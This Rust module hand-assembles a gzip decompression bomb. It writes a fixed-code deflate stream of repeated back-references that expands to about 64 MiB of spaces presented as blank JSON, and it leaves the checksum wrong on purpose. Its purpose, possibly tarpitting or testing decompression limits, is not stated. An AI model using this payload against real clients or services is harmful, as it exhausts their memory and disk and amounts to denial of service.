//! A compressed bomb. Knows gzip (RFC 1952) and as much of deflate (RFC 1951) as a long run of one byte takes.

/// How often the run repeats the byte before it 258 times.
const REPEATS: usize = 1 << 18;

/// 64 MiB of spaces, compressed: unpacked it is blank JSON. The checksum at its end is not right: nobody gets there.
pub(super) fn gzip() -> Vec<u8> {
    let mut bits = Bits::default();
    // The last block, with the fixed code (RFC 1951 section 3.2.6).
    bits.push(0b1, 1);
    bits.push(0b10, 2);
    // A space, as a literal: 0x30 and its value, most significant bit first.
    bits.push_code(0x30 + 0x20, 8);
    for _ in 0..REPEATS {
        // 258 times (285), at a distance of one (0).
        bits.push_code(0b1100_0101, 8);
        bits.push_code(0, 5);
    }
    // The end of the block (256).
    bits.push_code(0, 7);
    [[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255].as_slice(), &bits.bytes, &[0; 8]].concat()
}

/// Bits, the first in the lowest place of the first byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    used: u8,
}

impl Bits {
    /// The lowest `count` bits of `value`, the lowest first.
    fn push(&mut self, value: u32, count: u8) {
        for place in 0..count {
            if self.used == 0 {
                self.bytes.push(0);
            }
            if let Some(last) = self.bytes.last_mut().filter(|_| value >> place & 1 == 1) {
                *last |= 1 << self.used;
            }
            self.used = (self.used + 1) % 8;
        }
    }

    /// The lowest `count` bits of `code`, the highest first, as codes are written.
    fn push_code(&mut self, code: u32, count: u8) {
        for place in (0..count).rev() {
            self.push(code >> place, 1);
        }
    }
}
